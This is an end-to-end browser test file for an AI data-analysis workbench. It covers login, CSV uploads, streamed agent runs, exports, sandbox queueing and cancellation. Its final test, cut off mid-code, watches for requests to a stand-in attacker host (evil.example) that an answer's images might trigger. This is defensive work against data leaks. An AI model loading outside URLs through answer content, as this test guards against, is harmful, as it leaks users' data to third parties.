// End-to-end test: the built SPA served by the real backend, a scripted LLM, Debian's chromium.
// Usage: npm run e2e (builds dist first). Prints "N passed, M failed" as its last line.
import { spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, existsSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { filesTests } from './files.mjs';
import { knowledgeTests } from './knowledge.mjs';
import { liveTests } from './live.mjs';
import { cellsTests } from './cells.mjs';
import { branchesTests } from './branches.mjs';
import { attemptsTests } from './attempts.mjs';
import { jobsTests } from './jobs.mjs';
import { sourcesTests } from './sources.mjs';
import { signinTests, startOidcProvider } from './signin.mjs';
import { resultsTests } from './results.mjs';
import { SHOTS_ON, settle, snap } from './shots.mjs';

const HERE = import.meta.dirname;
const FRONTEND = path.resolve(HERE, '..');
const BACKEND = path.resolve(FRONTEND, '..', 'backend');
const SHOTS = path.join(HERE, 'screenshots');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const EMAIL = 'admin@example.com';
const PASSWORD = 'admin-password-1';
const T = 20_000;

const children = [];
const dataDir = mkdtempSync(path.join(tmpdir(), 'wb-e2e-'));
const planDataDir = mkdtempSync(path.join(tmpdir(), 'wb-e2e-plans-'));
const noModelDataDir = mkdtempSync(path.join(tmpdir(), 'wb-e2e-no-model-'));
// Files the backend may open as data sources (SQLite, DuckDB): the shop database of its test.
const sourcesDir = path.join(dataDir, 'sources');
mkdirSync(sourcesDir);

function freePort() {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address();
      s.close(() => resolve(port));
    });
    s.on('error', reject);
  });
}

function start(name, args, env) {
  const child = spawn('uv', ['run', 'python', ...args], {
    cwd: BACKEND,
    env: { ...process.env, ...env },
    detached: true, // own process group, so the whole tree can be stopped
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let log = '';
  child.stdout.on('data', (d) => (log += d));
  child.stderr.on('data', (d) => (log += d));
  children.push({ name, child, log: () => log });
  return child;
}

function stopAll() {
  for (const { child } of children) {
    if (child.exitCode === null && child.pid) {
      try {
        process.kill(-child.pid, 'SIGTERM');
      } catch {
        /* already gone */
      }
    }
  }
}

async function waitFor(url, ms = 60_000, anyStatus = false) {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    try {
      const r = await fetch(url);
      if (r.ok || anyStatus) return;
    } catch {
      /* not up yet */
    }
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`timed out waiting for ${url}`);
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// The project's sales.csv: units 1..30 at a price of 3·units + 0.5, in four regions.
function salesCsv() {
  const rows = ['region,units,price'];
  for (let i = 1; i <= 30; i++) rows.push(`r${i % 4},${i},${i * 3}.5`);
  return rows.join('\n') + '\n';
}

// Runs an exported notebook top to bottom in a plain Jupyter kernel (nbclient + ipykernel, the
// backend's own dependencies) in `folder`; prints the Markdown the answers showed, as JSON.
const EXECUTE_NOTEBOOK = `
import json, os, sys
import nbformat
from nbclient import NotebookClient
folder = os.environ["NOTEBOOK_FOLDER"]
notebook = nbformat.read(os.path.join(folder, "session.ipynb"), as_version=4)
NotebookClient(notebook, timeout=120, resources={"metadata": {"path": folder}}).execute()
shown = [o["data"]["text/markdown"] for c in notebook.cells if c.cell_type == "code"
         for o in c.outputs if o.output_type == "display_data" and "text/markdown" in o["data"]]
print(json.dumps(shown))
`;

async function main() {
  if (!existsSync(path.join(FRONTEND, 'dist', 'index.html'))) throw new Error('frontend/dist is missing: run `npm run build` first');
  rmSync(SHOTS, { recursive: true, force: true });
  mkdirSync(SHOTS, { recursive: true });
  const llmPort = await freePort();
  const port = await freePort();
  const planPort = await freePort();
  const noModelPort = await freePort();
  const oidcPort = await freePort();
  start('llm', ['-m', 'tests.support.llm', '--port', String(llmPort)], {});
  const backendEnv = {
    DATA_DIR: dataDir,
    ADMIN_EMAIL: EMAIL,
    ADMIN_PASSWORD: PASSWORD,
    LLM_MODEL: 'openai/scripted',
    LLM_API_BASE: `http://127.0.0.1:${llmPort}/v1`,
    LLM_API_KEY: 'none',
    PORT: String(port),
    HOST: '127.0.0.1',
    MAX_UPLOAD_BYTES: '20000',
    // One sandbox worker: a second session's question waits in the queue (see its test).
    SANDBOX_MAX_WORKERS: '1',
    // No spare started ahead: a session's first question starts its sandbox (its test says so).
    SANDBOX_SPARE_WORKERS: '0',
    // The scripts answer the agent's steps only: no plan or answer-check calls in between.
    AGENT_PLANNING_INTERVAL: '0',
    AGENT_VERIFY_ROUNDS: '0',
    // A price for the scripted model, so runs, sessions and projects show what they cost.
    LLM_PRICES: JSON.stringify({ 'openai/scripted': { input: 0.5, output: 1.5 } }),
    SOURCES_FILE_DIRS: sourcesDir,
  };
  start('backend', ['-m', 'app'], backendEnv);
  // A second backend that plans (before step 1, then every 2 steps) and checks each final answer
  // once: its test scripts those model calls between the steps' replies.
  start('backend-plans', ['-m', 'app'], {
    ...backendEnv,
    DATA_DIR: planDataDir,
    PORT: String(planPort),
    AGENT_PLANNING_INTERVAL: '2',
    AGENT_VERIFY_ROUNDS: '1',
  });
  // A third backend as on a first start without an LLM: no LLM_MODEL, no LLM_MODELS. Only its own
  // test waits for it, so it starts alongside the others. It also signs in through a real OpenID
  // provider (e2e/signin.mjs), which its login page offers.
  const oidc = startOidcProvider(oidcPort, `http://127.0.0.1:${noModelPort}`);
  children.push({ name: 'oidc-provider', child: oidc.child, log: () => '' });
  start('backend-no-model', ['-m', 'app'], {
    ...backendEnv,
    ...oidc.env,
    DATA_DIR: noModelDataDir,
    PORT: String(noModelPort),
    LLM_MODEL: '',
    LLM_MODELS: '',
  });
  const base = `http://127.0.0.1:${port}`;
  const planBase = `http://127.0.0.1:${planPort}`;
  const noModelBase = `http://127.0.0.1:${noModelPort}`;
  // A first start on a new machine prepares the sandbox's runtime cache (tens of seconds, three
  // backends at once on two cores): give it time.
  await waitFor(`${base}/readyz`, 300_000);
  await waitFor(`${planBase}/readyz`, 300_000);
  await waitFor(`http://127.0.0.1:${llmPort}/`, 30_000, true);

  // `review`: the knowledge review pass's replies (none: it proposes nothing); `repair`: a job
  // repair's (none: it proposes no code).
  const script = async (replies, chunkDelay = 0, review = [], repair = []) => {
    const r = await fetch(`http://127.0.0.1:${llmPort}/control/script`, {
      method: 'POST',
      body: JSON.stringify({ replies, chunk_delay: chunkDelay, review, repair }),
    });
    if (!r.ok) throw new Error(`scripting the LLM failed: ${r.status}`);
  };

  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  page.setDefaultTimeout(T);
  const consoleErrors = [];
  page.on('console', (m) => m.type() === 'error' && consoleErrors.push(`console: ${m.text()}`));
  page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
  const consoleWarnings = [];
  page.on('console', (m) => m.type() === 'warning' && consoleWarnings.push(m.text()));
  const shot = (name) => snap(page, path.join(SHOTS, `${name}.png`));
  // The theme menu at the foot of the sidebar (shown in a wide window): System, Light or Dark.
  const chooseTheme = async (p, name) => {
    await p.getByRole('button', { name: /^Theme: / }).click();
    await p.getByRole('menuitemradio', { name }).click();
    await p.getByRole('menu').waitFor({ state: 'detached' });
  };

  const lastRun = () => page.locator('[data-testid=run]').last();
  // A finished run leads with its answer and folds its steps into one line: open them.
  const openSteps = async (run = lastRun()) => {
    const toggle = run.getByTestId('steps-toggle');
    if ((await toggle.getAttribute('aria-expanded')) === 'false') await toggle.click();
    await run.getByTestId('run-steps').waitFor();
  };
  // While a run goes, a finished step folds to its header: open one.
  const openStep = async (card) => {
    if ((await card.getAttribute('data-open')) === 'false') await card.locator('header').click();
  };
  const ask = async (text) => {
    const box = page.getByRole('textbox', { name: 'Ask a question about your data' });
    await box.fill(text);
    await box.press('Enter');
  };

  const results = [];
  let aborted = false;
  // E2E_ONLY=<regex> runs only the tests whose names match (with logging in, which they need, and the console check).
  const only = process.env.E2E_ONLY ? new RegExp(process.env.E2E_ONLY) : null;
  const NEEDED = new Set(['signed-out visit goes to the login page', 'wrong password shows a readable message', 'log in', 'no console errors']);
  const test = async (name, fn) => {
    if (only && !only.test(name) && !NEEDED.has(name)) return;
    if (aborted) {
      results.push({ name, ok: false, error: 'skipped after an earlier failure' });
      console.log(`not ok - ${name} (skipped)`);
      return;
    }
    const t0 = Date.now();
    try {
      await fn();
      results.push({ name, ok: true });
      console.log(`ok - ${name} (${Date.now() - t0} ms)`);
    } catch (e) {
      results.push({ name, ok: false, error: e });
      aborted = true;
      console.log(`not ok - ${name}\n  ${String(e?.stack ?? e).split('\n').slice(0, 6).join('\n  ')}`);
      await page.screenshot({ path: path.join(SHOTS, `failure-${name.replace(/\W+/g, '-')}.png`) }).catch(() => undefined);
    }
  };
  const expect = (cond, msg) => {
    if (!cond) throw new Error(msg);
  };

  try {
    await test('signed-out visit goes to the login page', async () => {
      await page.goto(`${base}/`);
      await page.waitForURL('**/login');
      await page.getByLabel('Email').waitFor();
      await shot('01-login');
    });

    await test('wrong password shows a readable message', async () => {
      await page.getByLabel('Email').fill(EMAIL);
      await page.getByLabel('Password').fill('not-the-password');
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByText('Wrong email or password.').waitFor();
    });

    await test('log in', async () => {
      await page.getByLabel('Password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('heading', { name: 'Projects' }).waitFor();
    });

    await test('every response carries the security headers; no sandbox banner on an isolated backend', async () => {
      for (const url of [`${base}/`, `${base}/assets/missing.js`, `${base}/api/v1/auth/me`, `${base}/healthz`]) {
        const headers = (await page.request.get(url)).headers();
        const csp = headers['content-security-policy'] ?? '';
        expect(csp.includes("script-src 'self'") && csp.includes("frame-ancestors 'none'"), `${url}: CSP was ${JSON.stringify(csp)}`);
        expect(headers['x-content-type-options'] === 'nosniff' && headers['x-frame-options'] === 'DENY', `${url}: headers ${JSON.stringify(headers)}`);
      }
      const status = page.waitForResponse((r) => r.url().endsWith('/api/v1/sandbox'));
      await page.reload();
      const body = await (await status).json();
      expect(body.available && body.isolated, `the e2e backend should run isolated: ${JSON.stringify(body)}`);
      await page.getByRole('heading', { name: 'Projects' }).waitFor();
      expect((await page.getByTestId('sandbox-banner').count()) === 0, 'no sandbox banner is shown');
    });

    await test('create a project', async () => {
      await page.getByRole('button', { name: 'New project' }).last().click();
      await page.getByRole('textbox', { name: 'Name' }).fill('Quarterly sales');
      await page.getByRole('button', { name: 'Create project' }).click();
      await page.getByTestId('project-title').filter({ hasText: 'Quarterly sales' }).waitFor();
    });

    await test('rename the project', async () => {
      await page.getByRole('button', { name: 'Actions for Quarterly sales' }).click();
      await page.getByRole('menuitem', { name: 'Rename' }).click();
      await page.getByRole('textbox', { name: 'Name' }).fill('Sales 2026');
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByRole('navigation').getByText('Sales 2026').waitFor();
    });

    await test('upload a CSV and see its preview with dtypes', async () => {
      await page.getByTestId('file-input').setInputFiles({ name: 'sales.csv', mimeType: 'text/csv', buffer: Buffer.from(salesCsv()) });
      await page.getByRole('button', { name: /^sales\.csv/ }).click();
      const table = page.getByTestId('data-table');
      await table.getByText('region').waitFor();
      await table.getByText('int64').waitFor();
      await shot('02-project-datasets');
    });

    await test('too-large and unsupported uploads get readable messages', async () => {
      await page.getByTestId('file-input').setInputFiles([
        { name: 'huge.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n' + '1,2\n'.repeat(10_000)) },
        { name: 'tool.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') },
      ]);
      const uploads = page.getByRole('list', { name: 'Uploads' });
      await uploads.getByRole('alert').filter({ hasText: 'huge.csv' }).waitFor();
      await uploads.getByRole('alert').filter({ hasText: 'tool.exe' }).waitFor();
      await shot('02b-upload-errors');
      await page.getByRole('button', { name: 'Dismiss huge.csv' }).click();
      await page.getByRole('button', { name: 'Dismiss tool.exe' }).click();
    });

    await test('create a session', async () => {
      await page.getByRole('main').getByRole('button', { name: 'New session' }).click();
      await page.waitForURL('**/sessions/**');
      await page.getByText('What would you like to know?').waitFor();
    });

    await test('ask: code streams, the Plotly chart renders, the table pages', async () => {
      await script(
        [
          {
            thought: 'Load the data, chart units by region, and show the table.',
            code:
              'import pandas as pd\nimport plotly.express as px\ndf = pd.read_csv("sales.csv")\nprint(df.describe())\n' +
              'fig = px.bar(df.groupby("region", as_index=False)["units"].sum(), x="region", y="units")\nfig.show()\ndisplay(df)',
          },
          { final: '**Region r0** sold the most units.\n\n- 30 rows analysed' },
        ],
        0.02,
      );
      await ask('Which region sells the most units?');
      // Seen while it streams; on a quiet machine the run may end (and its steps fold) first.
      await Promise.race([
        lastRun().getByTestId('code').filter({ hasText: 'read_csv' }).first().waitFor(),
        lastRun().getByTestId('final-answer').filter({ hasText: 'sold the most units' }).waitFor({ timeout: 40_000 }),
      ]);
      await shot('03-session-streaming');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'sold the most units' }).waitFor({ timeout: 40_000 });
      await lastRun().getByText('Succeeded').waitFor();
      // The answer leads, with the run's last result (the table) under it; the steps fold away.
      const table = lastRun().getByTestId('run-result').getByTestId('artifact-table');
      await table.getByTestId('page-indicator').filter({ hasText: 'Page 1 of 3' }).waitFor();
      await table.getByRole('button', { name: 'Next page' }).click();
      await table.getByTestId('page-indicator').filter({ hasText: 'Page 2 of 3' }).waitFor();
      await table.getByRole('button', { name: 'Sort by units' }).click();
      expect((await lastRun().getByTestId('step-card').count()) === 0, 'the steps of a finished run are folded');
      await settle(page, 300);
      await shot('04-session-answer');
      await openSteps();
      await lastRun().locator('.js-plotly-plot .main-svg').first().waitFor({ timeout: 40_000 });
      await lastRun().getByTestId('code').filter({ hasText: 'read_csv' }).first().waitFor();
      await settle(page, 300);
      await shot('04b-session-steps-open');
    });

    await test('reload mid-run: the run resumes without lost or duplicated events', async () => {
      await script(
        [
          { thought: 'Count slowly.', code: 'import time\nfor i in range(5):\n    print("tick", i)\n    time.sleep(1)' },
          { final: 'Resumed and finished.' },
        ],
        0.05,
      );
      await ask('Count to five slowly.');
      await lastRun().getByTestId('code').filter({ hasText: 'time.sleep' }).first().waitFor();
      await page.reload();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Resumed and finished.' }).waitFor({ timeout: 40_000 });
      await openSteps();
      const output = await lastRun().getByTestId('step-output').first().innerText();
      const ticks = output.match(/tick \d/g) ?? [];
      expect(ticks.join(',') === 'tick 0,tick 1,tick 2,tick 3,tick 4', `output after resume was ${JSON.stringify(output)}`);
      const thought = await lastRun().getByTestId('step-thought').first().innerText();
      expect(thought === 'Count slowly.', `thought after resume was ${JSON.stringify(thought)}`);
      expect((await lastRun().getByTestId('step-card').count()) === 2, 'expected exactly two step cards');
      expect((await page.getByTestId('run').count()) === 2, 'expected two runs in the session');
    });

    await test('connection lost mid-stream: the app re-attaches with Last-Event-ID, nothing lost or doubled', async () => {
      await script(
        [
          { thought: 'Tick through an outage.', code: 'import time\nfor i in range(4):\n    print("beat", i)\n    time.sleep(0.5)' },
          { final: 'Survived the outage.' },
        ],
        0.02,
      );
      // The query's stream "drops" after its first 12 messages; the rest must come from a re-attach.
      const resumes = [];
      const onRequest = (r) => r.url().includes('/events') && resumes.push(r.headers()['last-event-id']);
      page.on('request', onRequest);
      await page.route('**/api/v1/sessions/*/query', async (route) => {
        const response = await route.fetch();
        const messages = (await response.text()).split('\n\n').filter((m) => m.includes('data:'));
        await route.fulfill({ response, body: messages.slice(0, 12).join('\n\n') + '\n\n' });
      });
      await ask('Keep going through an outage.');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Survived the outage.' }).waitFor({ timeout: 40_000 });
      await page.unroute('**/api/v1/sessions/*/query');
      page.off('request', onRequest);
      await openSteps();
      expect(resumes.includes('12'), `expected a re-attach with Last-Event-ID 12, saw ${JSON.stringify(resumes)}`);
      const output = await lastRun().getByTestId('step-output').first().innerText();
      const beats = output.match(/beat \d/g) ?? [];
      expect(beats.join(',') === 'beat 0,beat 1,beat 2,beat 3', `output after reconnect was ${JSON.stringify(output)}`);
      const thought = await lastRun().getByTestId('step-thought').first().innerText();
      expect(thought === 'Tick through an outage.', `thought after reconnect was ${JSON.stringify(thought)}`);
      expect((await lastRun().getByTestId('step-card').count()) === 2, 'expected exactly two step cards');
    });

    await test('ask a follow-up; history shows all runs after a reload', async () => {
      await script(
        [
          {
            thought: 'Plot it with matplotlib, then save a file.',
            code: 'import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [3, 1, 2])\nplt.title("Trend")\nplt.show()\nopen("out.txt", "w")',
          },
          { final: 'A follow-up answer.' },
        ],
        0.01,
      );
      await ask('And a follow-up?');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'A follow-up answer.' }).waitFor({ timeout: 30_000 });
      await lastRun().getByTestId('run-result').getByTestId('artifact-image').locator('img').waitFor();
      await openSteps();
      await lastRun().getByTestId('step-error').filter({ hasText: 'open' }).waitFor();
      await lastRun().getByRole('button', { name: /^Enlarge/ }).click();
      await page.getByRole('dialog').locator('img').waitFor();
      await shot('05-image-enlarged');
      await page.keyboard.press('Escape');
      await lastRun().getByTestId('step-error').scrollIntoViewIfNeeded();
      await shot('05-error-and-recovery');
      await page.reload();
      await page.getByTestId('final-answer').filter({ hasText: 'A follow-up answer.' }).waitFor();
      expect((await page.getByTestId('run').count()) === 4, 'expected four runs after reload');
      await openSteps(page.getByTestId('run').first());
      await page.locator('.js-plotly-plot .main-svg').first().waitFor();
    });

    // The session menu's exports, saved as the browser saves them: name and bytes.
    const sessionMenu = () => page.getByRole('button', { name: 'Session actions' });
    const exportFile = async (item, open = () => sessionMenu().click()) => {
      await open();
      const downloading = page.waitForEvent('download', { timeout: 40_000 });
      await page.getByRole('menu').getByRole('menuitem', { name: item }).click();
      const download = await downloading;
      const file = await download.path();
      await page.getByRole('menu').waitFor({ state: 'detached' });
      return { name: download.suggestedFilename(), text: readFileSync(file, 'utf8') };
    };

    await test('the session menu exports the notebook and the report', async () => {
      await sessionMenu().click();
      const menu = page.getByRole('menu');
      await menu.getByRole('menuitem', { name: 'Export as Markdown (.md)' }).waitFor();
      const items = await menu.getByRole('menuitem').allInnerTexts();
      expect(
        JSON.stringify(items) ===
          JSON.stringify(['Export as notebook (.ipynb)', 'Export as report (.html)', 'Export as Markdown (.md)', 'Choose questions to export…', 'Share…']),
        `the menu offers ${JSON.stringify(items)}`,
      );
      await settle(page, 300);
      await shot('05c-export-menu');
      await page.keyboard.press('Escape');
      await menu.waitFor({ state: 'detached' });

      const notebook = await exportFile('Export as notebook (.ipynb)');
      expect(notebook.name.endsWith('.ipynb'), `the notebook is saved as ${JSON.stringify(notebook.name)}`);
      const nb = JSON.parse(notebook.text);
      expect(nb.nbformat === 4 && Array.isArray(nb.cells), `the notebook is nbformat 4: ${notebook.text.slice(0, 200)}`);
      const source = (cell) => (Array.isArray(cell.source) ? cell.source.join('') : String(cell.source ?? ''));
      const cells = (type) => nb.cells.filter((c) => c.cell_type === type).map(source);
      expect(
        cells('markdown').some((t) => t.includes('Which region sells the most units?')),
        `a markdown cell holds the question: ${JSON.stringify(cells('markdown')).slice(0, 400)}`,
      );
      expect(
        cells('code').some((t) => t.includes('pd.read_csv("sales.csv")') && t.includes('px.bar(')),
        `a code cell holds the step's code: ${JSON.stringify(cells('code')).slice(0, 400)}`,
      );
      // It reruns top to bottom in a real kernel, next to the one file the session read, and gives
      // the session's answers (the failed step of the follow-up runs as far as it ran).
      const folder = mkdtempSync(path.join(tmpdir(), 'wb-e2e-notebook-'));
      writeFileSync(path.join(folder, 'session.ipynb'), notebook.text);
      writeFileSync(path.join(folder, 'sales.csv'), salesCsv());
      const rerun = spawnSync('uv', ['run', 'python', '-c', EXECUTE_NOTEBOOK], {
        cwd: BACKEND,
        env: { ...process.env, NOTEBOOK_FOLDER: folder, WORKBENCH_RUN_UNSANDBOXED: '1' },
        encoding: 'utf8',
        timeout: 300_000,
      });
      rmSync(folder, { recursive: true, force: true });
      expect(rerun.status === 0, `the notebook reruns without an error: ${rerun.stderr.slice(-1500)}`);
      const answers = await page.evaluate(async (sessionUrl) => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const id = sessionUrl.split('/sessions/')[1];
        const r = await fetch(`/api/v1/sessions/${id}/runs`, { headers: { Authorization: `Bearer ${token}` } });
        const body = await r.json();
        return (Array.isArray(body) ? body : body.items).map((run) => run.final_answer);
      }, page.url());
      const shown = rerun.status === 0 ? JSON.parse(rerun.stdout.trim().split('\n').pop()) : [];
      expect(
        JSON.stringify(shown) === JSON.stringify(answers),
        `the rerun gives the session's answers: ${JSON.stringify(shown)} vs ${JSON.stringify(answers)}`,
      );

      // The report, from the keyboard: Enter opens the menu on its first item, ArrowDown moves on.
      const report = await exportFile('Export as report (.html)', async () => {
        await sessionMenu().focus();
        await page.keyboard.press('Enter');
        await page.getByRole('menuitem', { name: 'Export as notebook (.ipynb)' }).and(page.locator(':focus')).waitFor();
        await page.keyboard.press('ArrowDown');
        await page.getByRole('menuitem', { name: 'Export as report (.html)' }).and(page.locator(':focus')).waitFor();
      });
      expect(report.name.endsWith('.html'), `the report is saved as ${JSON.stringify(report.name)}`);
      expect(/<html[\s>]/i.test(report.text), 'the report is an HTML document');
      expect(report.text.includes('Which region sells the most units?'), 'the report holds the question');
      expect(report.text.includes('sold the most units'), 'the report holds the answer');
    });

    await test("a failed export shows the server's reason in the menu", async () => {
      const detail = 'Object storage is not reachable right now; try again in a minute.';
      const isExport = (url) => /\/api\/v1\/sessions\/[^/]+\/export$/.test(url.pathname);
      // The answer waits until the test has seen the item say it is at work.
      let release;
      const released = new Promise((resolve) => (release = resolve));
      await page.route(isExport, async (route) => {
        await released;
        await route.fulfill({ status: 503, headers: { 'Retry-After': '30' }, json: { detail, code: 'storage_unavailable' } });
      });
      await sessionMenu().click();
      await page.getByRole('menuitem', { name: 'Export as Markdown (.md)' }).click();
      const busy = page.getByRole('menu').getByRole('menuitem', { name: 'Exporting…' });
      await busy.waitFor();
      expect((await busy.getAttribute('aria-disabled')) === 'true', 'the item at work cannot be chosen again');
      await shot('05d-exporting');
      release();
      await page.getByRole('menu').getByRole('alert').filter({ hasText: `Export failed: ${detail}` }).waitFor();
      expect(!(await page.getByRole('menuitem', { name: 'Export as Markdown (.md)' }).isDisabled()), 'the item can be tried again');
      await shot('05e-export-failed');
      await page.unroute(isExport);
      await page.keyboard.press('Escape');
      await page.getByRole('menu').waitFor({ state: 'detached' });
    });

    await test('the export dialog chooses the format and the questions', async () => {
      const openDialog = async () => {
        await sessionMenu().click();
        await page.getByRole('menuitem', { name: 'Choose questions to export…' }).click();
        const dialog = page.getByRole('dialog', { name: 'Export questions' });
        await dialog.getByTestId('export-runs').getByText('Which region sells the most units?').waitFor();
        return dialog;
      };
      const dialog = await openDialog();
      const boxes = dialog.getByRole('checkbox');
      const count = await boxes.count();
      const checked = await Promise.all(Array.from({ length: count }, (_, i) => boxes.nth(i).isChecked()));
      expect(count >= 4 && checked.every(Boolean), `every answered question is chosen to start with: ${JSON.stringify(checked)}`);
      expect((await dialog.getByRole('radio', { name: /Report/ }).getAttribute('aria-checked')) === 'true', 'the report is the format to start with');
      await settle(page, 300);
      await shot('05f-export-dialog');
      // Only the first question goes in the report.
      for (let i = 1; i < count; i++) await boxes.nth(i).uncheck();
      await dialog.getByText(`1 of ${count} questions`).waitFor();
      const downloading = page.waitForEvent('download', { timeout: 40_000 });
      await dialog.getByRole('button', { name: 'Export .html' }).click();
      const download = await downloading;
      const report = readFileSync(await download.path(), 'utf8');
      await dialog.waitFor({ state: 'detached' });
      expect(download.suggestedFilename() === 'Which region sells the most units.html', `the report is named ${JSON.stringify(download.suggestedFilename())}`);
      expect(report.includes(`1 of ${count} questions`) && report.includes('sold the most units'), 'the report holds the chosen question');
      expect(!report.includes('Count to five slowly.'), 'the report leaves out the questions not chosen');
      // On a phone.
      await page.setViewportSize({ width: 390, height: 844 });
      await openDialog();
      await settle(page, 300);
      await shot('05g-export-dialog-phone');
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      await page.setViewportSize({ width: 1440, height: 900 });
    });

    await test('a session with a run in progress can still be exported', async () => {
      const go = 'go-export.csv';
      const wait = [
        'import time',
        'import pandas as pd',
        'ready = False',
        'while not ready:',
        '    try:',
        `        pd.read_csv('${go}')`,
        '        ready = True',
        '    except Exception:',
        '        time.sleep(0.05)',
        'print("released")',
      ].join('\n');
      await script([{ thought: 'Wait for the signal.', code: wait }, { final: 'Released after the export.' }], 0.01);
      const usage = await page.getByTestId('session-usage').innerText();
      await ask('Wait for the signal, please.');
      await lastRun().getByTestId('code').filter({ hasText: 'released' }).first().waitFor();
      const md = await exportFile('Export as Markdown (.md)');
      expect(md.name.endsWith('.md'), `the Markdown is saved as ${JSON.stringify(md.name)}`);
      expect(md.text.includes('Which region sells the most units?'), 'the Markdown holds what was recorded');
      writeFileSync(path.join(dataDir, 'workspaces', page.url().split('/sessions/')[1], go), 'go\n1\n');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Released after the export.' }).waitFor({ timeout: 40_000 });
      // The answer shows before the run has ended; the session's totals follow once the refetched
      // history holds the ended run, so the next test's run, started elsewhere, is news to the page.
      await page.getByTestId('session-usage').filter({ hasNotText: usage }).waitFor();
    });

    await test('a run started elsewhere shows here live; the question typed meanwhile waits in the box', async () => {
      await script([{ thought: 'Background work.', code: 'import time\ntime.sleep(3)' }, { final: 'Background done.' }], 0.02);
      // Another client starts a run in this session: the session's live stream tells this page
      // (before, a 409 session_busy told it only once it asked; the server still answers so).
      await page.evaluate(async (sessionUrl) => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const id = sessionUrl.split('/sessions/')[1];
        const r = await fetch(`/api/v1/sessions/${id}/query`, {
          method: 'POST',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ query: 'Started elsewhere' }),
        });
        await r.body.getReader().read();
      }, page.url());
      const elsewhere = page.locator('[data-testid=run]').filter({ hasText: 'Started elsewhere' });
      await elsewhere.waitFor();
      expect((await elsewhere.getByTestId('final-answer').count()) === 0, 'the run shows while it is still going, before its answer');
      const box = page.getByRole('textbox', { name: 'Ask a question about your data' });
      await box.fill('Am I allowed?');
      await box.press('Enter');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Background done.' }).waitFor({ timeout: 30_000 });
      expect((await page.getByText('Started elsewhere').count()) === 1, 'the run started elsewhere is shown once');
      expect((await box.inputValue()) === 'Am I allowed?', 'the question typed while it ran is still in the box, not sent and not lost');
      expect((await page.locator('[data-testid=run]').filter({ hasText: 'Am I allowed?' }).count()) === 0, 'nothing was asked while the session was busy');
      await box.fill('');
    });

    await test('stop a running query', async () => {
      await script([{ thought: 'This takes a while.', code: 'import time\ntime.sleep(8)\nprint("late")' }, { final: 'never' }], 0.02);
      await ask('Do something slow.');
      await lastRun().getByTestId('code').filter({ hasText: 'time.sleep' }).first().waitFor();
      await page.getByRole('button', { name: 'Stop the running query' }).click();
      await lastRun().getByText('Cancelled').waitFor({ timeout: 30_000 });
      await shot('06-session-cancelled');
    });

    await test('a question waits visibly for the only sandbox, then runs', async () => {
      const wait = [
        'import time',
        'import pandas as pd',
        'ready = False',
        'while not ready:',
        '    try:',
        "        pd.read_csv('go.csv')",
        '        ready = True',
        '    except Exception:',
        '        time.sleep(0.05)',
      ].join('\n');
      await script([{ thought: 'Holding the sandbox.', code: wait }, { final: 'Held.' }, { final: 'Waited my turn.' }], 0.02);
      // Another session of the same user takes the only worker and keeps it.
      const held = await page.evaluate(async (sessionUrl) => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' };
        const mine = await (await fetch(`/api/v1/sessions/${sessionUrl.split('/sessions/')[1]}`, { headers })).json();
        const other = await (
          await fetch(`/api/v1/projects/${mine.project_id}/sessions`, { method: 'POST', headers, body: JSON.stringify({ title: 'Holder' }) })
        ).json();
        const r = await fetch(`/api/v1/sessions/${other.id}/query`, { method: 'POST', headers, body: JSON.stringify({ query: 'Hold it' }) });
        const reader = r.body.getReader();
        const decoder = new TextDecoder();
        let text = '';
        while (!text.includes('event: step.code')) text += decoder.decode((await reader.read()).value);
        return other.id;
      }, page.url());
      await ask('Is it my turn?');
      await lastRun().getByText('Waiting for a free sandbox').waitFor();
      expect((await lastRun().getByText('next in line').count()) === 1, 'the place in the queue is shown');
      await shot('07-session-queued');
      writeFileSync(path.join(dataDir, 'workspaces', held, 'go.csv'), 'go\n1\n');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Waited my turn.' }).waitFor({ timeout: 60_000 });
      expect((await lastRun().getByText('Waiting for a free sandbox').count()) === 0, 'the queue notice is gone once it runs');
    });

    await test('an answer cannot make the browser load outside URLs (markdown images, Plotly layout images)', async () => {
      const outside = [];
      const onRequest = (r) => /evil\.example|example\.org/.test(r.url()) && outside.push(r.url());
      page.on('request', onRequest);
      await script(
        [
          {
            thought: 'Chart it with a logo.',
            code:
              'import plotly.graph_objects as go\nfig = go.Figure(go.Bar(x=["a", "b"], y=[1, 2]))\n' +
